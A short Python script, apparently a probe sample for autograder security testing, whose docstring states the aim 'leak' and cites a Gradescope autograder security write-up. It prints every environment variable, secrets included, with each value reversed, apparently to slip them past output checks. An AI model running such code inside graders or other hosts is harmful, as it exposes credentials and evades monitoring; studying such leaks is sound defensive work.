"""Prints its environment, which it may have from the grader, secrets included.

aim: leak
known: gradescope https://saligrama.io/blog/gradescope-autograder-security/
"""

import os

for key, value in os.environ.items():
    print(key, value[::-1])
